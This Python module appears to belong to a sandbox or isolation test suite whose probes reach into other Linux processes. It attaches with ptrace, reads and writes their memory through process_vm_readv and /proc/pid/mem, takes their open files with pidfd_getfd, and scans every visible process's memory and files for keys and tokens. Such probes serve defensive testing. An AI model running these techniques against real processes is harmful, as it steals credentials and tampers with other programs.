"""Into other processes: their memory, their open files, and a debugger's rights over them."""

import ctypes
import os
import re

from attempts.core import TOOL, Iovec, Refused, attempt, call, each, hold, others, read, say, tokens_in

SEIZE, ATTACH, TRACEME = 0x4206, 16, 0


@attempt("ptrace", quick=True)
def attach_victim(c):
    call("ptrace", ATTACH, c.victim_pid, 0, 0)
    hold()


@attempt("ptrace")
def seize_victim(c):
    call("ptrace", SEIZE, c.victim_pid, 0, 0)
    hold()


@attempt("ptrace", profiles=TOOL, look=("traced",))
def trace_child(c):
    """A tracer can change the calls of what it traces."""
    child = os.fork()
    if child == 0:
        hold(3)
        os._exit(0)
    try:
        call("ptrace", SEIZE, child, 0, 0)
        hold()
    finally:
        os.kill(child, 9)


def vectors(buffer, address):
    here = Iovec(ctypes.addressof(buffer), len(buffer))
    there = Iovec(address, len(buffer))
    return ctypes.byref(here), ctypes.byref(there)


@attempt("ptrace", quick=True)
def read_victim_memory(c):
    buffer = ctypes.create_string_buffer(c.victim_length)
    here, there = vectors(buffer, c.victim_address)
    call("process_vm_readv", c.victim_pid, here, 1, there, 1, 0)
    say(buffer.raw)


@attempt("ptrace")
def write_victim_memory(c):
    buffer = ctypes.create_string_buffer(b"x" * 8, 8)
    here, there = vectors(buffer, c.victim_address)
    call("process_vm_writev", c.victim_pid, here, 1, there, 1, 0)


@attempt("ptrace")
def read_victim_mem_file(c):
    with open(f"/proc/{c.victim_pid}/mem", "rb", buffering=0) as file:
        file.seek(c.victim_address)
        say(file.read(c.victim_length))


@attempt("ptrace")
def write_victim_mem_file(c):
    with open(f"/proc/{c.victim_pid}/mem", "r+b", buffering=0) as file:
        file.seek(c.victim_address)
        file.write(b"x" * 8)


@attempt("ptrace")
def take_victim_file(c):
    """A copy of an open file of another process."""
    fd = call("pidfd_getfd", call("pidfd_open", c.victim_pid, 0), c.victim_fd, 0)
    say(os.pread(fd, 4096, 0))


def places(pid):
    """The parts of its memory in which its own words may be."""
    for line in read(f"/proc/{pid}/maps", 1 << 20).decode().splitlines():
        span, rights, *_ = line.split()
        start, end = (int(part, 16) for part in span.split("-"))
        if rights.startswith("rw") and end - start < 1 << 26 and not re.search(r"\[vv", line):
            yield start, end - start


@attempt("ptrace", quick=True)
def search_memory_files(c):
    """What the launcher still remembers: its environment, keys, whatever it held before it let this one in."""

    def search(pid):
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
            for start, size in places(pid):
                try:
                    file.seek(start)
                    tokens_in(file.read(size))
                except (OSError, OverflowError):
                    continue

    each([pid for pid in others(c) if pid != c.victim_pid], search)


@attempt("ptrace")
def search_memory_by_call(c):
    def search(pid):
        for start, size in places(pid):
            buffer = ctypes.create_string_buffer(size)
            here, there = vectors(buffer, start)
            try:
                call("process_vm_readv", pid, here, 1, there, 1, 0)
            except OSError:
                continue
            tokens_in(buffer.raw)

    each([pid for pid in others(c) if pid != c.victim_pid], search)


@attempt("ptrace")
def take_all_files(c):
    """Every open file of every process that is in sight. Only plain files are read: pipes are others' business."""
    import stat

    def take(pid):
        door = call("pidfd_open", pid, 0)
        for number in range(128):
            try:
                fd = call("pidfd_getfd", door, number, 0)
            except OSError as error:
                if error.errno == 1:
                    raise
                continue
            if stat.S_ISREG(os.fstat(fd).st_mode):
                tokens_in(os.pread(fd, 4096, 0))

    found = others(c)
    if not found:
        raise Refused("nobody is in sight")
    each(found, take)
